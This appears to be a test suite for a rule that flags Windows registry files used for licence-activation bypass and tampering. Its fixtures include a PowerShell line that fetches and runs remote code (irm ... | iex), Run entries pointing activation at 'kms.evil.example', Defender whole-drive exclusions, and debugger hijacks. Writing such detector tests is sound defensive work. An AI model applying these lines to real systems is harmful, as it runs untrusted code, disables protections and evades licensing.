// Files of registry values: hijacks, hosts in any writing, redirections, starts; and the files of honest administrators.
import { test } from 'uvu';
import { registryFile } from '../../../rules/activation/registry-file.ts';
import type { FakeSpec } from '../../helpers/fake-image.ts';
import { windowsRuleTester } from '../../helpers/on-windows.ts';

const PATH = '/Users/Public/a.reg';
const text = (lines: readonly string[]) => ['Windows Registry Editor Version 5.00', '', ...lines, ''].join('\r\n');
const image = (...lines: readonly string[]): FakeSpec => ({ files: { [PATH]: text(lines) } });
const at = (line: number) => ({ file: PATH, line });
const policy = { kmsHosts: ['kms.corp.example'] };
const MACHINE = 'HKEY_LOCAL_MACHINE\\SOFTWARE';
const CURRENT = `${MACHINE}\\Microsoft\\Windows NT\\CurrentVersion`;
const SERVICES = 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services';
const FIREWALL = `${SERVICES}\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules`;
const RUN = `[${MACHINE}\\Microsoft\\Windows\\CurrentVersion\\Run]`;

windowsRuleTester(registryFile, {
  good: [
    {
      name: 'the right host, options of another program, a start of a vendor',
      policy,
      image: image(
        `[${CURRENT}\\SoftwareProtectionPlatform]`,
        '"KeyManagementServiceName"="KMS.corp.example."',
        `[${CURRENT}\\Image File Execution Options\\tool.exe]`,
        '"Debugger"="x.exe"',
        RUN,
        '"Panel"="\\"C:\\\\Program Files\\\\Vendor\\\\panel.exe\\" /tray"',
        `[${MACHINE}\\Microsoft\\Windows Defender\\Exclusions\\Paths]`,
        '"D:\\\\Data\\\\SQL"=dword:00000000',
      ),
    },
    {
      name: 'keys and values that are removed, and comments',
      image: image(
        `[-${CURRENT}\\Image File Execution Options\\sppsvc.exe]`,
        `[${CURRENT}\\SoftwareProtectionPlatform]`,
        '"KeyManagementServiceName"=-',
        '; "KeyManagementServiceName"="127.0.0.2"',
      ),
    },
    {
      name: 'the built-in rule for an activation host, and one that is off',
      image: image(
        `[${FIREWALL}]`,
        '"SPPSVC-In-TCP"="v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=1688|"',
        '"x"="v2.10|Action=Allow|Active=FALSE|Dir=In|Protocol=6|LPort=1688|"',
        '"y"="v2.10|Action=Allow|Active=TRUE|Dir=Out|Protocol=6|LPort=1688|"',
        '"z"="v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=1688|"',
      ),
    },
    {
      name: 'the services of Windows and of a vendor',
      image: image(
        `[${SERVICES}\\sppsvc]`,
        '"ImagePath"=hex(2):25,00,53,00,79,00,73,00,74,00,65,00,6d,00,52,00,6f,00,6f,00,74,00,25,00,5c,00,73,00,79,00,73,00,74,00,65,00,6d,00,33,00,32,00,5c,00,73,00,70,00,70,00,73,00,76,00,63,00,2e,00,65,00,78,00,65,00,00,00',
        '"Start"=dword:00000002',
        `[${SERVICES}\\Agent]`,
        '"ImagePath"="\\"C:\\\\Program Files\\\\Agent\\\\agent.exe\\""',
      ),
    },
    { name: 'files of that name that are none', image: { files: { '/a.reg': 'text', '/b.reg': '', '/c.reg': { folder: true } } } },
  ],
  bad: [
    ...['Image File Execution Options\\SppExtComObj.exe', 'SilentProcessExit\\sppsvc.exe'].map((key) => ({
      name: `a hijack: ${key}`,
      image: image(`[${CURRENT}\\${key}]`, '"Debugger"="x.exe"'),
      findings: [{ messageId: 'writes', at: at(4), level: 'certain' as const }],
    })),
    {
      name: 'a host in hexadecimal, in UTF-16',
      policy,
      image: {
        files: {
          [PATH]: Buffer.from(
            `\ufeff${text([`[${CURRENT}\\SoftwareProtectionPlatform]`, `"KeyManagementServiceName"=hex(2):31,00,32,00,37,00,2e,00,\\`, '  30,00,2e,00,30,00,2e,00,32,00,00,00'])}`,
            'utf16le',
          ),
        },
      },
      findings: [{ messageId: 'writes', at: at(4), level: 'certain' as const, says: '127.0.0.2' }],
    },
    {
      name: 'the port redirected and opened',
      image: image(
        `[${SERVICES}\\PortProxy\\v4tov4\\tcp]`,
        '"10.0.0.9/1688"="127.0.0.1/1688"',
        `[${FIREWALL}]`,
        '"x"="v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=1688|"',
      ),
      findings: [
        { messageId: 'writes', at: at(4), says: 'redirects' },
        { messageId: 'writes', at: at(6), says: 'opens' },
      ],
    },
    {
      name: 'a policy for names of activation, and Defender told to look away',
      image: image(
        `[${SERVICES}\\Dnscache\\Parameters\\DnsPolicyConfig\\x]`,
        '"Name"=hex(7):2e,00,73,00,6c,00,73,00,2e,00,6d,00,69,00,63,00,72,00,6f,00,73,00,6f,00,66,00,74,00,2e,00,63,00,6f,00,6d,00,00,00,00,00',
        `[${MACHINE}\\Microsoft\\Windows Defender\\Exclusions\\Paths]`,
        '"C:\\\\"=dword:00000000',
        '"C:\\\\Tools\\\\KMS"=dword:00000000',
        `[${MACHINE}\\Microsoft\\Windows Defender\\Threats\\ThreatIDDefaultAction]`,
        '"2147685180"="6"',
      ),
      findings: [
        { messageId: 'writes', at: at(4), says: 'by a policy' },
        { messageId: 'writes', at: at(6), says: 'whole drive' },
        { messageId: 'writes', at: at(7), says: 'named after activation' },
        { messageId: 'writes', at: at(9), says: 'allow a threat' },
      ],
    },
    {
      name: 'starts that activate, fetch, and lie where data lies',
      policy,
      image: image(
        RUN,
        '"a"="cmd /c s^lmgr.vbs /skms kms.evil.example"',
        '"b"="powershell -c \\"irm https://x.example | iex\\""',
        '"c"="C:\\\\Windows\\\\Temp\\\\c.exe"',
      ),
      findings: [
        { messageId: 'starts', at: at(4), says: 'kms.evil.example' },
        { messageId: 'starts', at: at(5), says: 'fetches' },
        { messageId: 'fromData', at: at(6), level: 'weak' as const },
      ],
    },
    {
      name: 'services: one that listens, one with settings of an emulator, the licensing service switched off, a driver on the port',
      image: image(
        `[${SERVICES}\\Relay]`,
        '"Start"=dword:00000002',
        '"ImagePath"="C:\\\\relay.exe -l 0.0.0.0:1688"',
        `[${SERVICES}\\Relay\\Parameters]`,
        '"KMSPID"="x"',
        '"KMSHWID"="x"',
        `[${SERVICES}\\sppsvc]`,
        '"Start"=dword:00000004',
        `[${SERVICES}\\Filter]`,
        '"Type"=dword:00000001',
        `[${SERVICES}\\Filter\\Parameters]`,
        '"Port"=dword:00000698',
      ),
      findings: [
        { messageId: 'service', at: at(5), level: 'certain' as const, says: 'settings' },
        { messageId: 'service', at: at(5), level: 'strong' as const, says: 'listens' },
        { messageId: 'service', at: at(10), level: 'strong' as const, says: 'switched off' },
        { messageId: 'service', at: at(12), level: 'strong' as const, says: 'a driver' },
      ],
    },
    {
      name: 'a service that activates, and one that is only told the port',
      image: image(
        `[${SERVICES}\\First]`,
        '"ImagePath"="C:\\\\Windows\\\\System32\\\\cscript.exe slmgr.vbs /skms 127.0.0.2"',
        `[${SERVICES}\\Second]`,
        '"ImagePath"="C:\\\\second.exe --port=1688"',
      ),
      findings: [
        { messageId: 'service', at: at(4), level: 'certain' as const, says: /^writes the service First, which .*127\.0\.0\.2/ },
        { messageId: 'service', at: at(4), level: 'weak' as const, says: 'is a shell or a script' },
        { messageId: 'service', at: at(6), level: 'weak' as const, says: 'is told the port' },
      ],
    },
    {
      name: 'more values than are looked at',
      image: { files: { [PATH]: text([RUN, ...Array.from({ length: 200_001 }, () => '"a"="b"')]) } },
      findings: [],
      unable: 'holds more values than are looked at',
    },
    {
      name: 'a file that is too large',
      image: { files: { [PATH]: Buffer.alloc(33 * 1024 * 1024, 0x20) } },
      findings: [],
      unable: 'is too large',
    },
  ],
});

test.run();
